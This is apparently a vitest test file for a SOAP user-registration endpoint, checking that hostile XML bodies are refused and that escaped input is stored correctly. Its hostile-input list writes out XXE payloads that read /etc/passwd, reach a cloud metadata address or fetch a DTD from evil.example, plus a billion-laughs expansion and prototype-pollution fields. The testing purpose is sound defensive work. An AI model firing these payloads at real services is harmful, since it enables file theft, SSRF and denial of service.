import { describe, expect, test } from "vitest";
import { call } from "../call.ts";
import { envelope, faultOf, getUserRequest, post, registerRequest, VERSION_NAMES, VERSIONS } from "./envelopes.ts";
import { authEnv, PASSWORD, register, waitingEvents } from "./people.ts";

const JOHN = { email: "john@example.com", password: PASSWORD };
const REQUEST = registerRequest(JOHN);
const VALID = envelope(REQUEST);

/** The envelope with a document type before it, and a reference to what that defines. */
function withDocumentType(subset: string): string {
  return VALID.replace("?>", `?><!DOCTYPE x [${subset}]>`).replace(JOHN.email, "&e;@example.com");
}

const LAUGHS = Array.from({ length: 9 }, (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`).join("");

/** A header whose innermost element is that deep below the envelope. */
function headerOfDepth(levels: number): string {
  const inside = levels - 1;
  return `<soap:Header>${"<x>".repeat(inside)}${"</x>".repeat(inside)}</soap:Header>`;
}

function utf16(text: string, mark: boolean): Uint8Array {
  const units = Uint16Array.from((mark ? `\uFEFF${text}` : text).split(""), (unit) => unit.charCodeAt(0));
  return new Uint8Array(units.buffer);
}

/** Each must be answered with a fault that blames the client, and leave nothing behind. */
const HOSTILE: [name: string, body: string | Uint8Array][] = [
  ["nothing", ""],
  ["no XML", "hello"],
  ["JSON", JSON.stringify(JOHN)],
  ["an external entity of a file", withDocumentType('<!ENTITY e SYSTEM "file:///etc/passwd">')],
  ["an external entity of an address", withDocumentType('<!ENTITY e SYSTEM "http://169.254.169.254/latest">')],
  ["a parameter entity", withDocumentType('<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;')],
  ["a billion laughs", withDocumentType(`<!ENTITY l0 "lol">${LAUGHS}<!ENTITY e "&l9;">`)],
  ["an external document type", VALID.replace("?>", '?><!DOCTYPE x SYSTEM "http://evil.example/x.dtd">')],
  ["a document type in small letters", VALID.replace("?>", "?><!doctype x>")],
  ["a thousand levels", envelope("<a>".repeat(1_000) + "</a>".repeat(1_000))],
  ["twenty-one levels", envelope(REQUEST, "1.1", headerOfDepth(20))],
  ["twenty thousand levels never closed", "<a>".repeat(20_000)],
  ["six thousand attributes", envelope(`<a ${Array.from({ length: 6_000 }, (_, i) => `b${i}="1"`).join(" ")}/>`)],
  ["UTF-16 with its mark", utf16(VALID, true)],
  ["UTF-16 without its mark", utf16(VALID, false)],
  ["UTF-16 declared", VALID.replace("utf-8", "utf-16")],
  ["UTF-7 declared", VALID.replace("utf-8", "utf-7")],
  ["broken UTF-8", new Uint8Array([...new TextEncoder().encode(VALID.slice(0, 40)), 0xc3, 0x28])],
  ["a zero byte", VALID.replace("john", "jo\0hn")],
  [
    "an element __proto__",
    envelope(REQUEST.replace("<u:email>", "<__proto__><role>admin</role></__proto__><u:email>")),
  ],
  ["an element constructor", envelope(REQUEST.replace("<u:email>", "<u:constructor>1</u:constructor><u:email>"))],
  ["an attribute __proto__", envelope(REQUEST.replace("<u:email>", '<u:email __proto__="1">'))],
  ["a request __proto__", envelope("<__proto__/>")],
  ["a field twice", envelope(REQUEST.replace("<u:email>", "<u:email>evil@example.com</u:email><u:email>"))],
  ["a field with elements inside", envelope(registerRequest({ ...JOHN, name: "<b>John</b>" }))],
  [
    "a field of another namespace",
    envelope(REQUEST.replace("<u:email>", '<x:role xmlns:x="urn:x">admin</x:role><u:email>')),
  ],
  ["a field that there is not", envelope(registerRequest({ ...JOHN, role: "admin" }))],
  ["a second Body", VALID.replace("</soap:Body>", "</soap:Body><soap:Body/>")],
  ["a Header after the Body", VALID.replace("</soap:Body>", "</soap:Body><soap:Header/>")],
  ["no Body", VALID.replaceAll("soap:Body", "soap:Corpse")],
  ["an empty Body", envelope("")],
  ["two requests", envelope(REQUEST + REQUEST)],
  ["two roots", VALID + VALID.replace(/<\?xml.*\?>/, "")],
  ["a request in no namespace", envelope(REQUEST.replaceAll("u:", ""))],
  ["a request with an undeclared prefix", envelope(REQUEST.replaceAll("u:", "v:"))],
  ["a Body with an undeclared prefix", VALID.replaceAll("soap:Body", "v:Body")],
  ["tags that do not match", VALID.replace("</u:email>", "</u:password>")],
  ["a bare ampersand", envelope(registerRequest({ ...JOHN, name: "A & B" }))],
  ["an attribute twice", envelope(REQUEST.replace("<u:email>", '<u:email a="1" a="2">'))],
  ["an unclosed CDATA", VALID.replace(JOHN.email, "<![CDATA[john")],
  ["half an envelope", VALID.slice(0, VALID.length / 2)],
];

describe("a hostile body", () => {
  test.each(HOSTILE)("%s is the client's fault and leaves nothing", async (_, body) => {
    for (const version of VERSION_NAMES) {
      const { client, clientStatus } = VERSIONS[version];
      const sent =
        typeof body === "string" ? body.replace(VERSIONS["1.1"].namespace, VERSIONS[version].namespace) : body;
      const fault = await faultOf(await post("/register", sent, version));
      expect(fault).toMatchObject({ status: clientStatus, code: client });
      expect(fault.problem).toMatch(/^(malformed_request|invalid_request)$/);
      expect(fault.text).not.toContain("root:");
    }
    expect(await waitingEvents()).toEqual([]);
  });

  test.each(["utf-16", "utf-7", "x-user-defined"])("is refused in the charset %s", async (charset) => {
    const response = await call("/register", {
      body: VALID,
      headers: { "Content-Type": `text/xml; charset="${charset}"` },
    });
    expect(await faultOf(response)).toMatchObject({ status: 500, code: "Client", problem: "malformed_request" });
  });

  test.each(VERSION_NAMES)("of 65 KiB is refused unread in SOAP %s, with and without its length", async (version) => {
    const large = envelope(`<!--${"x".repeat(65 * 1_024)}-->${REQUEST}`, version);
    const streamed = new Blob([large]).stream();
    for (const body of [large, streamed]) {
      const fault = await faultOf(await post("/register", body, version));
      expect(fault).toMatchObject({ status: 413, code: VERSIONS[version].client, problem: "payload_too_large" });
    }
  });
});

describe("what was written", () => {
  async function registered(fields: Record<string, string>): Promise<{ name: string | null; email: string }> {
    const response = await post("/register", envelope(registerRequest({ ...JOHN, ...fields })));
    expect([response.status, await response.text()]).toEqual([200, expect.stringContaining("RegisterUserResponse")]);
    const row = await authEnv.DB.prepare("SELECT name, email FROM users").first<{
      name: string | null;
      email: string;
    }>();
    return row ?? { name: null, email: "" };
  }

  test.each([
    ["Ren&#233;", "René"],
    ["Ren&#xE9;", "René"],
    ["&lt;b&gt; &amp;amp; &quot;&apos;", `<b> &amp; "'`],
    ["<![CDATA[<b> &amp; ]]>Co", "<b> &amp; Co"],
    ["\n  Ada <!-- Countess --> Lovelace\n", "Ada  Lovelace"],
    ["007", "007"],
    ["&#128247;", "📷"],
  ])("as %s is stored as %s", async (written, stored) => {
    expect((await registered({ name: written })).name).toBe(stored);
  });

  test("as a password counts to the letter, blanks included", async () => {
    await registered({ password: "  <![CDATA[p&ss ]]>word &#33; " });
    const login = (password: string) => call("/login", { json: { email: JOHN.email, password } });
    expect((await login("  p&ss word ! ")).status).toBe(200);
    expect((await login("p&ss word !")).status).toBe(401);
  });

  test("as a blank optional field counts as left out", async () => {
    expect((await registered({ name: "", username: "" })).name).toBe(null);
  });

  test("twenty levels deep is read", async () => {
    expect((await post("/register", envelope(REQUEST, "1.1", headerOfDepth(19)))).status).toBe(200);
  });

  test("without a namespace counts as ours", async () => {
    const qualified = REQUEST.replaceAll("u:", "").replaceAll("RegisterUserRequest", "u:RegisterUserRequest");
    expect((await post("/register", envelope(qualified))).status).toBe(200);
  });

  test("comes back escaped, and without what XML cannot hold", async () => {
    await register("x@example.com", { username: "x-y", name: "<x>&\"'\u0001]]>" });
    const answer = await (await post("/user/soap", envelope(getUserRequest("x-y")))).text();
    expect(answer).toContain("<tns:name>&lt;x&gt;&amp;&quot;&apos;\uFFFD]]&gt;</tns:name>");
  });

  test("comes back escaped in a fault", async () => {
    const fault = await faultOf(await call(`/user/soap?username=${encodeURIComponent("<x>&")}`));
    expect(fault.code).toBe("Client");
    expect(fault.text).not.toContain("<x>");
  });
});
